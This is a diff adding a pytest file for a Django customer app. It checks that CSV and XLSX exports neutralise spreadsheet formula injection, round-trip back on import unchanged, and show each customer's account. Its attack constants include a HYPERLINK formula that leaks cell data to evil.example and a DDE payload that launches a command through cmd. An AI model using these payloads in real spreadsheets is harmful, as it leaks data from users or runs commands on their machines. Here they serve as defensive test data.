@@ -1,0 +1,262 @@
+"""Exports a person opens never hold a live formula, and still import back unchanged; a
+superuser's export says each customer's account (issue 13 #4, issue 14 #9).
+
+The customers are sent through the API, as the attack came: a name that is a HYPERLINK
+formula, a phone number starting with +, values starting with -, @ and an apostrophe."""
+
+import csv
+import io
+import json
+
+import openpyxl
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
+from hypothesis import given
+from hypothesis import strategies as st
+
+from customers.models import Customer, UndoState
+from customers.resources import ADMIN_EXPORT_FIELDS, EXPORT_FIELDS
+from customers.spreadsheet import OTHER_ACCOUNT, neutralised, restored
+from tests.commands import conftest as command_line
+from tests.commands.conftest import snapshot
+from tests.conftest import POINTS
+from tests.factories import make_campaign
+
+IMPORT_URL = "/admin/customers/customer/import-file/"
+EXPORT_URL = "/admin/customers/customer/export/"
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+# Field -> a value a spreadsheet would run, or that only looks like the neutralised form.
+ATTACK = {
+    "code": "F1",
+    "first_name": HYPERLINK,
+    "last_name": "-2+3",
+    "phone": "+44 20 7946 0000",
+    "street1": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "street2": "'=already quoted",
+    "city": "''+two apostrophes",
+    "state": "'plain",
+    "custom_field": "O'Brien",
+}
+PLAIN = {"code": "F2", "first_name": "Ann", "phone": "555-5555"}
+# The command line tests' fixtures: import_file runs import_customers on a file data_file wrote.
+data_file, import_file = command_line.data_file, command_line.import_file
+FORMULA_START = tuple("=+-@\t\r")
+# Session, user and the list (its account joined): as many for 60 customers as for 1.
+QUERIES_OF_AN_EXPORT = 5
+
+
+@pytest.fixture
+def attack(post_batch, account):
+    """The customers, created through the API (customers_batch, pipe-delimited)."""
+    headers = tuple(ATTACK)
+    out = io.StringIO()
+    writer = csv.writer(out, delimiter="|", lineterminator="\n")
+    writer.writerow(ATTACK.values())
+    writer.writerow([PLAIN.get(name, "") for name in headers])
+    response = post_batch(headers=headers, data=out.getvalue(), output="JSON")
+    assert json.loads(response.content)["batch"]["customers"]["new"] == 2
+    assert Customer.objects.get(code="F1").first_name == HYPERLINK
+    return account
+
+
+@pytest.fixture
+def boss(client, django_user_model, campaigns):
+    client.force_login(django_user_model.objects.create_superuser("boss", password="pw"))
+    return client
+
+
+def admin_export(client, file_format: str) -> bytes:
+    """The admin's export of the customer list: every column ticked, as the form starts."""
+    response = client.post(
+        EXPORT_URL,
+        {
+            "format": {"csv": "0", "xlsx": "1"}[file_format],
+            "resource": "0",
+            **{f"customerexportresource_{name}": "on" for name in ADMIN_EXPORT_FIELDS},
+        },
+    )
+    assert response.status_code == 200, response.content[:500]
+    return response.content
+
+
+def csv_rows(content: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
+def xlsx_cells(content: bytes) -> list[list[openpyxl.cell.Cell]]:
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    return [list(row) for row in book.active.iter_rows()]
+
+
+def admin_import(client, account, content: bytes, file_format: str):
+    """Preview, then confirm, the file in the admin; returns the preview's response."""
+    form = {
+        "account": account.pk,
+        "campaigns": POINTS,
+        "overwrite_duplicates": "update",
+        "file_format": file_format,
+        "import_file": SimpleUploadedFile(f"customers.{file_format}", content),
+    }
+    previewed = client.post(IMPORT_URL, form)
+    if "pending" in (previewed.context or {}):
+        client.post(IMPORT_URL, {"pending": previewed.context["pending"]})
+    return previewed
+
+
+def neutral(value: str) -> bool:
+    return not value.startswith(FORMULA_START)
+
+
+def test_the_admins_csv_export_starts_no_cell_with_a_formula_character(boss, attack):
+    rows = csv_rows(admin_export(boss, "csv"))
+
+    assert rows[0] == list(ADMIN_EXPORT_FIELDS)
+    assert all(neutral(cell) for row in rows for cell in row)
+    f1 = dict(zip(rows[0], rows[1], strict=True))
+    assert f1["first_name"] == "'" + HYPERLINK
+    assert f1["phone"] == "'+44 20 7946 0000"
+    assert (f1["last_name"], f1["street1"]) == ("'-2+3", "'@SUM(1+1)*cmd|' /C calc'!A0")
+    assert (f1["street2"], f1["city"]) == ("''=already quoted", "'''+two apostrophes")
+    assert (f1["state"], f1["custom_field"]) == ("'plain", "O'Brien")
+
+
+def test_the_admins_xlsx_export_holds_no_formula_cell(boss, attack):
+    cells = xlsx_cells(admin_export(boss, "xlsx"))
+
+    assert [cell.data_type for row in cells for cell in row if cell.data_type == "f"] == []
+    values = [["" if cell.value is None else cell.value for cell in row] for row in cells]
+    assert values == csv_rows(admin_export(boss, "csv"))
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_the_admins_export_imports_back_unchanged_through_the_admin(boss, attack, file_format):
+    before = snapshot(attack)
+
+    admin_import(boss, attack, admin_export(boss, file_format), file_format)
+
+    state = UndoState.objects.get(source=UndoState.Source.ADMIN)
+    assert (state.updated, state.failed) == (2, 0)
+    assert snapshot(attack) == before
+
+
+def command_export(*arguments: str) -> str:
+    out = io.StringIO()
+    call_command(
+        "export_customers", "--account=greatwidgets", *arguments, stdout=out, stderr=io.StringIO()
+    )
+    return out.getvalue()
+
+
+def test_the_command_line_export_neutralises_formulas_unless_raw(boss, attack):
+    neutralised_rows = csv_rows(command_export("--format=csv").encode())
+    raw_rows = csv_rows(command_export("--format=csv", "--raw").encode())
+
+    assert all(neutral(cell) for row in neutralised_rows for cell in row)
+    assert neutralised_rows[1][EXPORT_FIELDS.index("first_name")] == "'" + HYPERLINK
+    assert raw_rows[1][EXPORT_FIELDS.index("first_name")] == HYPERLINK
+    assert raw_rows[1][EXPORT_FIELDS.index("street2")] == "'=already quoted"
+    # The admin's values are the command's, after the account column.
+    assert [row[1:] for row in csv_rows(admin_export(boss, "csv"))] == neutralised_rows
+
+
+@pytest.mark.parametrize("raw", [False, True])
+def test_import_customers_takes_the_command_line_export_back_unchanged(attack, import_file, raw):
+    before = snapshot(attack)
+    option = ("--raw",) if raw else ()
+
+    ran = import_file(command_export("--format=csv", *option), *option)
+
+    assert ran.stdout.splitlines()[0] == (
+        "Imported into greatwidgets: 0 new, 2 updated, 0 ignored, 0 failed."
+    )
+    assert snapshot(attack) == before
+
+
+def test_the_api_takes_the_raw_command_line_export_back_unchanged(attack, post_batch):
+    before = snapshot(attack)
+    header, data = command_export("--format=psv", "--raw").split("\n", 1)
+
+    response = post_batch(
+        headers=header.split("|"), data=data, overwrite_duplicates="update", output="JSON"
+    )
+
+    assert json.loads(response.content)["batch"]["customers"]["updated"] == 2
+    assert snapshot(attack) == before
+
+
+@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab "), max_size=8) | st.text(max_size=8))
+def test_every_value_round_trips_and_no_neutralised_value_starts_a_formula(value):
+    assert restored(neutralised(value)) == value
+    assert neutral(neutralised(value))
+    if neutralised(value) == value:
+        assert restored(value) == value
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["", "a", "'", "''", "=", "'=", "''=", "+44", "-", "@x", "\tx", "\rx", "'a", "a=b", "'''-"],
+)
+def test_restoring_takes_back_exactly_what_neutralising_added(value):
+    assert restored(neutralised(value)) == value
+    assert neutral(neutralised(value))
+
+
+def test_a_superusers_export_names_each_customers_account(boss, account, other_account, run_import):
+    run_import(("code", "first_name"), "MINE|Ann")
+    make_campaign(account=other_account, campaign_id=POINTS)
+    run_import(("code", "first_name"), "THEIRS|Bob", into=other_account)
+
+    rows = csv_rows(admin_export(boss, "csv"))
+
+    code, slug = ADMIN_EXPORT_FIELDS.index("code"), ADMIN_EXPORT_FIELDS.index("account")
+    assert sorted((row[slug], row[code]) for row in rows[1:]) == [
+        ("greatwidgets", "MINE"),
+        ("otherwidgets", "THEIRS"),
+    ]
+
+
+def test_a_file_of_several_accounts_is_refused_by_the_admin_import(
+    boss, account, other_account, run_import
+):
+    run_import(("code", "first_name"), "MINE|Ann")
+    make_campaign(account=other_account, campaign_id=POINTS)
+    run_import(("code", "first_name"), "THEIRS|Bob", into=other_account)
+    exported = admin_export(boss, "csv")
+    before = snapshot(account)
+    theirs = next(
+        number
+        for number, row in enumerate(csv_rows(exported), start=1)
+        if row[ADMIN_EXPORT_FIELDS.index("code")] == "THEIRS"
+    )
+
+    response = admin_import(boss, account, exported, "csv")
+
+    expected = OTHER_ACCOUNT.format(row=theirs, value="otherwidgets", account="greatwidgets")
+    assert response.context["form"].non_field_errors() == [expected]
+    assert snapshot(account) == before
+    assert not UndoState.objects.filter(source=UndoState.Source.ADMIN).exists()
+
+
+def test_an_account_column_naming_the_owner_id_imports(boss, account):
+    content = f"account,code,first_name\n{account.owner_id},N1,Nina\n,N2,Noor\n".encode()
+
+    admin_import(boss, account, content, "csv")
+
+    assert list(Customer.objects.order_by("code").values_list("code", "first_name")) == [
+        ("N1", "Nina"),
+        ("N2", "Noor"),
+    ]
+
+
+def test_the_account_column_costs_no_query_per_customer(
+    boss, account, other_account, run_import, django_assert_max_num_queries
+):
+    run_import(("code",), "\n".join(f"A{n}" for n in range(30)))
+    make_campaign(account=other_account, campaign_id=POINTS)
+    run_import(("code",), "\n".join(f"B{n}" for n in range(30)), into=other_account)
+
+    with django_assert_max_num_queries(QUERIES_OF_AN_EXPORT):
+        rows = csv_rows(admin_export(boss, "csv"))
+
+    assert len(rows) == 61
